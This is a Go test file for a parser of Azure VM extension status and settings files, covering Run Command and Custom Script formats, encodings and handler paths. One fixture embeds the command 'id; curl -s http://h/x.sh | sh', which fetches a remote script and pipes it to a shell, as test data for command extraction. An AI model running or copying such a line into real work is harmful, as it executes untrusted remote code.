package extensions

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
)

// Status shapes from docs/formats.md §1.5 (a)-(e) and §3.
var (
	statusShimPlaceholder = "[\n{\n\"version\": 1,\n\"timestampUTC\": \"2024-05-02T10:11:12+00:00\",\n\"status\": {\n\"operation\": \"Enable\",\n\"status\": \"transitioning\",\n\"formattedMessage\": {\n\"lang\": \"en\",\n\"message\": \"Enable in progress\"\n}\n}\n}\n]\n"
	statusGoFinal         = "[\n\t{\n\t\t\"version\": 1,\n\t\t\"timestampUTC\": \"2024-05-02T10:11:15Z\",\n\t\t\"status\": {\n\t\t\t\"operation\": \"Enable\",\n\t\t\t\"status\": \"success\",\n\t\t\t\"formattedMessage\": {\n\t\t\t\t\"lang\": \"en\",\n\t\t\t\t\"message\": \"Enable succeeded: \\n[stdout]\\nuid=0(root) gid=0(root) groups=0(root)\\n\\n[stderr]\\n\"\n\t\t\t}\n\t\t}\n\t}\n]"
	statusCSEError        = `[{"version":1,"timestampUTC":"2024-05-02T10:11:15Z","status":{"operation":"Enable","status":"error","formattedMessage":{"lang":"en","message":"Enable failed: failed to execute command: command terminated with exit status=3\n[stdout]\nhello\n\n[stderr]\nboom\n"}}}]`
	statusRCv2            = `[{"version":1,"timestampUTC":"2024-05-02T10:20:31Z","status":{"name":"myRunCommand","operation":"Enable","status":"success","formattedMessage":{"lang":"en","message":"{\"executionState\":\"Succeeded\",\"executionMessage\":\"Execution completed\",\"output\":\"uid=0(root) gid=0(root) groups=0(root)\\n\",\"error\":\"\",\"exitCode\":0,\"startTime\":\"2024-05-02T10:20:30Z\",\"endTime\":\"2024-05-02T10:20:31Z\"}"}}}]`
	statusRCv2Shim        = "[\n{\n\"version\": 1,\n\"timestampUTC\": \"2024-05-02T10:20:29+00:00\",\n\"status\": {\n\"operation\": \"Enable\",\n\"status\": \"transitioning\",\n\"formattedMessage\": {\n\"lang\": \"en\",\n\"message\": \"{}\"\n}\n}\n}\n]\n"
	statusAgent           = `[{"version": 1.0, "timestampUTC": "2024-05-02T10:11:12Z", "status": {"name": "Microsoft.Azure.Extensions.CustomScript", "operation": "Enable", "status": "transitioning", "code": 0, "formattedMessage": {"lang": "en-US", "message": "Not yet reported"}}}]`
	statusOSTC            = `[{"version": "1.0", "timestampUTC": "2024-05-02T10:11:12Z", "status": {"name": "Microsoft.OSTCExtensions.CustomScriptForLinux", "operation": "Enable", "status": "success", "code": "0", "formattedMessage": {"lang": "en-US", "message": "Script is finished. ---stdout--- hi there ---errout--- oops "}}}]`
	statusWindows         = `[{"version":"1","timestampUTC":"2024-05-02T10:11:15.1234567Z","status":{"name":"Microsoft.CPlat.Core.RunCommandWindows","operation":"Enable","status":"success","code":0,"formattedMessage":{"lang":"en-US","message":"Finished executing command"},"substatus":[{"name":"StdOut","status":"success","code":0,"formattedMessage":{"lang":"en-US","message":"nt authority\\system\n"}},{"name":"StdErr","status":"success","code":0,"formattedMessage":{"lang":"en-US","message":""}}]}}]`
)

func sp(s string) *string { return &s }
func ip(i int64) *int64   { return &i }

func TestParseStatus(t *testing.T) {
	ts := func(s string) time.Time { return ParseTime(s) }
	cases := []struct {
		name              string
		in                []byte
		state, op, writer string
		placeholder       bool
		stdout, stderr    *string
		exit              *int64
		timestamp         time.Time
		code              any
		execState         string
		start, end        time.Time
		substatus         int
		encoding          string
	}{
		{name: "shim placeholder", in: []byte(statusShimPlaceholder), state: "transitioning", op: "Enable", writer: WriterShim, placeholder: true, timestamp: ts("2024-05-02T10:11:12Z"), encoding: "utf-8"},
		{name: "go final", in: []byte(statusGoFinal), state: "success", op: "Enable", writer: WriterExtension,
			stdout: sp("uid=0(root) gid=0(root) groups=0(root)\n"), stderr: sp(""), timestamp: ts("2024-05-02T10:11:15Z"), encoding: "utf-8"},
		{name: "cse error", in: []byte(statusCSEError), state: "error", op: "Enable", writer: WriterExtension,
			stdout: sp("hello\n"), stderr: sp("boom\n"), exit: ip(3), timestamp: ts("2024-05-02T10:11:15Z"), encoding: "utf-8"},
		{name: "rc v2", in: []byte(statusRCv2), state: "success", op: "Enable", writer: WriterExtension,
			stdout: sp("uid=0(root) gid=0(root) groups=0(root)\n"), stderr: sp(""), exit: ip(0), execState: "Succeeded",
			start: ts("2024-05-02T10:20:30Z"), end: ts("2024-05-02T10:20:31Z"), timestamp: ts("2024-05-02T10:20:31Z"), encoding: "utf-8"},
		{name: "rc v2 shim", in: []byte(statusRCv2Shim), state: "transitioning", op: "Enable", writer: WriterShim, placeholder: true, timestamp: ts("2024-05-02T10:20:29Z"), encoding: "utf-8"},
		{name: "agent placeholder", in: []byte(statusAgent), state: "transitioning", op: "Enable", writer: WriterAgent, placeholder: true, code: int64(0), timestamp: ts("2024-05-02T10:11:12Z"), encoding: "utf-8"},
		{name: "ostc", in: []byte(statusOSTC), state: "success", op: "Enable", writer: WriterExtension, code: int64(0),
			stdout: sp("hi there"), stderr: sp("oops"), timestamp: ts("2024-05-02T10:11:12Z"), encoding: "utf-8"},
		{name: "windows substatus", in: []byte(statusWindows), state: "success", op: "Enable", writer: WriterExtension, code: int64(0),
			stdout: sp("nt authority\\system\n"), stderr: sp(""), substatus: 2, timestamp: time.Date(2024, 5, 2, 10, 11, 15, 123456700, time.UTC), encoding: "utf-8"},
		{name: "object not array, BOM", in: append([]byte{0xEF, 0xBB, 0xBF}, strings.Trim(statusCSEError, "[]")...), state: "error", op: "Enable", writer: WriterExtension,
			stdout: sp("hello\n"), stderr: sp("boom\n"), exit: ip(3), timestamp: ts("2024-05-02T10:11:15Z"), encoding: "utf-8-bom"},
		{name: "utf-16le with BOM", in: utf16le(statusWindows, true), state: "success", op: "Enable", writer: WriterExtension, code: int64(0),
			stdout: sp("nt authority\\system\n"), stderr: sp(""), substatus: 2, timestamp: time.Date(2024, 5, 2, 10, 11, 15, 123456700, time.UTC), encoding: "utf-16le"},
	}
	for _, c := range cases {
		s, err := ParseStatus(c.in)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if s.State != c.state || s.Operation != c.op || s.Writer != c.writer || s.Placeholder != c.placeholder {
			t.Errorf("%s: state %q op %q writer %q placeholder %v", c.name, s.State, s.Operation, s.Writer, s.Placeholder)
		}
		if !eqStr(s.StdOut, c.stdout) || !eqStr(s.StdErr, c.stderr) {
			t.Errorf("%s: stdout %q stderr %q", c.name, deref(s.StdOut), deref(s.StdErr))
		}
		if (s.ExitCode == nil) != (c.exit == nil) || (s.ExitCode != nil && *s.ExitCode != *c.exit) {
			t.Errorf("%s: exit %v", c.name, s.ExitCode)
		}
		if !s.Timestamp.Equal(c.timestamp) || s.Timestamp.Location() != time.UTC {
			t.Errorf("%s: timestamp %v", c.name, s.Timestamp)
		}
		if c.code != nil && s.Code != c.code {
			t.Errorf("%s: code %#v", c.name, s.Code)
		}
		if s.ExecutionState != c.execState || !s.StartTime.Equal(c.start) || !s.EndTime.Equal(c.end) {
			t.Errorf("%s: instance view %q %v %v", c.name, s.ExecutionState, s.StartTime, s.EndTime)
		}
		if len(s.Substatus) != c.substatus {
			t.Errorf("%s: substatus %d", c.name, len(s.Substatus))
		}
		if s.Encoding != c.encoding {
			t.Errorf("%s: encoding %s", c.name, s.Encoding)
		}
	}
}

func TestParseStatusSample(t *testing.T) {
	b, err := os.ReadFile("testdata/sample-status.json")
	if err != nil {
		t.Fatal(err)
	}
	s, err := ParseStatus(b)
	if err != nil {
		t.Fatal(err)
	}
	if s.State != "success" || s.Code != int64(1) || s.Name != "Microsoft.Azure.Extension.VMExtension" || len(s.Substatus) == 0 {
		t.Errorf("sample: %+v", s)
	}
	if s.Writer != WriterExtension || s.Placeholder {
		t.Errorf("sample writer %s", s.Writer)
	}
}

func TestParseStatusBad(t *testing.T) {
	for name, in := range map[string]string{
		"truncated": statusGoFinal[:len(statusGoFinal)/2],
		"garbage":   "\x00\x01\x02garbage{{",
		"empty arr": "[]",
		"number":    "42",
		"trailing":  statusCSEError + "xx",
		"deep":      strings.Repeat("[", 100000),
	} {
		if _, err := ParseStatus([]byte(in)); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	s, err := ParseStatus(nil)
	if err != nil || !s.Empty {
		t.Errorf("empty: %v %v", s, err)
	}
}

func utf16le(s string, bom bool) []byte {
	var b bytes.Buffer
	if bom {
		b.Write([]byte{0xFF, 0xFE})
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.Bytes()
}

func eqStr(a, b *string) bool {
	if a == nil || b == nil {
		return a == nil && b == nil
	}
	return *a == *b
}

func deref(a *string) string {
	if a == nil {
		return "<nil>"
	}
	return *a
}

func gz(s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func TestParseSettings(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	gzScript := gz("#!/bin/sh\nid\n")
	cases := []struct {
		name, in         string
		cmd, field, note string
		protected        bool
		thumb            string
		uris             int
		empty            bool
	}{
		{name: "rc v1 protected", in: `{"runtimeSettings": [{"handlerSettings": {"publicSettings": {}, "protectedSettings": "MIIB8AYJKoZIhvcNAQcDoIIB4TCCAd0CAQAx", "protectedSettingsCertThumbprint": "0123456789ABCDEF0123456789ABCDEF01234567"}}]}`,
			protected: true, thumb: "0123456789ABCDEF0123456789ABCDEF01234567"},
		{name: "cse public command", in: `{"runtimeSettings": [{"handlerSettings": {"publicSettings": {"commandToExecute": "echo 'cee174d4-4daa-4b07-9958-53b9649445c2'"}, "protectedSettings": null, "protectedSettingsCertThumbprint": null}}]}`,
			cmd: "echo 'cee174d4-4daa-4b07-9958-53b9649445c2'", field: "commandToExecute"},
		{name: "rc v2 source.script", in: `{"runtimeSettings": [{"handlerSettings": {"publicSettings": {"source": {"script": "id; curl -s http://h/x.sh | sh"}, "parameters": [{"name": "FOO", "value": "bar"}], "runAsUser": ""}, "protectedSettings": "MIIB", "protectedSettingsCertThumbprint": "AB"}}]}`,
			cmd: "id; curl -s http://h/x.sh | sh", field: "source.script", protected: true, thumb: "AB"},
		{name: "script base64", in: `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"script":"` + b64([]byte("echo hi\n")) + `"}}}]}`,
			cmd: "echo hi\n", field: "script"},
		{name: "script base64 gzip", in: `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"script":"` + b64(gzScript) + `"}}}]}`,
			cmd: "#!/bin/sh\nid\n", field: "script"},
		{name: "script gzip ends early", in: `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"script":"` + b64(gzScript[:len(gzScript)-6]) + `"}}}]}`,
			cmd: "#!/bin/sh\nid\n", field: "script", note: "gzip ends early: unexpected EOF"},
		{name: "script not base64", in: `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"script":"echo hi"}}}]}`,
			cmd: "echo hi", field: "script", note: "script is not base64; shown as found"},
		{name: "windows script array", in: `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"script":["whoami","hostname"]}}}]}`,
			cmd: "whoami\nhostname", field: "script"},
		{name: "fileUris", in: `{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"fileUris":["https://a.blob.core.windows.net/c/x.sh?sv=1&sig=abc%3D","https://b/y"],"commandToExecute":"sh x.sh"}}}]}`,
			cmd: "sh x.sh", field: "commandToExecute", uris: 2},
		{name: "empty", in: "", empty: true},
		{name: "whitespace", in: "\n", empty: true},
	}
	for _, c := range cases {
		s, err := ParseSettings([]byte(c.in))
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if s.Command != c.cmd || s.CommandField != c.field || s.CommandNote != c.note {
			t.Errorf("%s: cmd %q field %q note %q", c.name, s.Command, s.CommandField, s.CommandNote)
		}
		if s.Protected != c.protected || s.Thumbprint != c.thumb || len(s.FileUris) != c.uris || s.Empty != c.empty {
			t.Errorf("%s: protected %v thumb %q uris %v empty %v", c.name, s.Protected, s.Thumbprint, s.FileUris, s.Empty)
		}
	}
	for name, in := range map[string]string{
		"truncated": `{"runtimeSettings": [{"handlerSettings": {"publicSettings": {"comm`,
		"garbage":   "\x89PNG\r\n\x1a\n",
		"array":     "[1,2]",
		"no hs":     `{"runtimeSettings":[{}]}`,
	} {
		if _, err := ParseSettings([]byte(in)); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

func TestNames(t *testing.T) {
	for _, c := range []struct {
		in, h, v string
		ok       bool
	}{
		{"Microsoft.CPlat.Core.RunCommandLinux-1.0.5", "Microsoft.CPlat.Core.RunCommandLinux", "1.0.5", true},
		{"Microsoft.Azure.Extensions.CustomScript-2.1.13", "Microsoft.Azure.Extensions.CustomScript", "2.1.13", true},
		{"WALinuxAgent-2.13.1.1", "", "", false},
		{"history", "", "", false},
		{"run-command", "", "", false},
		{"Microsoft.CPlat.Core.RunCommandLinux__1.0.5.zip", "", "", false},
	} {
		h, v, ok := SplitLinuxHandlerDir(c.in)
		if h != c.h || v != c.v || ok != c.ok {
			t.Errorf("%s: %q %q %v", c.in, h, v, ok)
		}
	}
	for _, c := range []struct {
		in, name string
		seq      int64
		ok       bool
	}{
		{"3.settings", "", 3, true},
		{"myRunCommand.12.settings", "myRunCommand", 12, true},
		{"my.dotted.name.0.settings", "my.dotted.name", 0, true},
		{"x.settings", "", 0, false},
		{".3.settings", "", 0, false},
		{"3.settings123", "", 0, false},
	} {
		n, s, ok := ParseSeqFileName(c.in, ".settings")
		if n != c.name || s != c.seq || ok != c.ok {
			t.Errorf("%s: %q %d %v", c.in, n, s, ok)
		}
	}
	h, v := HandlerFromPath("/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5/config/0.settings")
	if h != "Microsoft.CPlat.Core.RunCommandLinux" || v != "1.0.5" {
		t.Errorf("linux path: %s %s", h, v)
	}
	h, v = HandlerFromPath(`C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.22\RuntimeSettings\0.settings`)
	if h != "Microsoft.CPlat.Core.RunCommandWindows" || v != "1.1.22" {
		t.Errorf("windows path: %s %s", h, v)
	}
	if got := OSPathFor("/mnt/img/", "/mnt/img/var/lib/waagent/X.Y-1.0/config/0.settings"); got != "/var/lib/waagent/X.Y-1.0/config/0.settings" {
		t.Errorf("OSPathFor: %s", got)
	}
	if got := OSPathFor("/mnt/img", "/mnt/img/Packages/Plugins/X.Y/1.0/RuntimeSettings/0.settings"); got != `C:\Packages\Plugins\X.Y\1.0\RuntimeSettings\0.settings` {
		t.Errorf("OSPathFor windows: %s", got)
	}
	if wd, err := os.Getwd(); err == nil {
		if got := OSPathFor("fx/linux", wd+"/fx/linux/var/lib/waagent/x"); got != "/var/lib/waagent/x" {
			t.Errorf("OSPathFor relative root: %s", got)
		}
		if got := OSPathFor(wd+"/fx/linux/", "fx/linux/var/lib/waagent/x"); got != "/var/lib/waagent/x" {
			t.Errorf("OSPathFor relative filename: %s", got)
		}
	}
	if got := OSPathFor("/mnt/img", "/mnt/imgX/a"); got != "/mnt/imgX/a" {
		t.Errorf("OSPathFor outside: %s", got)
	}
	if CompareVersions("1.0.10", "1.0.9") <= 0 || CompareVersions("1.0", "1.0.0") == 0 && false {
		t.Error("versions")
	}
}

func TestSmallFiles(t *testing.T) {
	if n, ok := ParseMrseq([]byte("3")); !ok || n != 3 {
		t.Error("mrseq")
	}
	if _, ok := ParseMrseq([]byte("x")); ok {
		t.Error("mrseq garbage")
	}
	pid, started, ok := ParsePidstart([]byte("4242\tThu May  2 10:11:13 2024\n"))
	if !ok || pid != 4242 || started != "Thu May  2 10:11:13 2024" {
		t.Errorf("pidstart %d %q %v", pid, started, ok)
	}
	b, _ := os.ReadFile("testdata/rc1-HandlerManifest.json")
	m, err := ParseHandlerJSON(b, "handlerManifest")
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := m.Get("enableCommand"); v != "bin/run-command-shim enable" {
		t.Errorf("manifest %v", m)
	}
	b, _ = os.ReadFile("testdata/rc1-HandlerEnvironment.json")
	e, err := ParseHandlerJSON(b, "handlerEnvironment")
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := e.Get("logFolder"); v != "/var/log/azure/Extension/VE.RS.ION" {
		t.Errorf("env %v", e)
	}
}
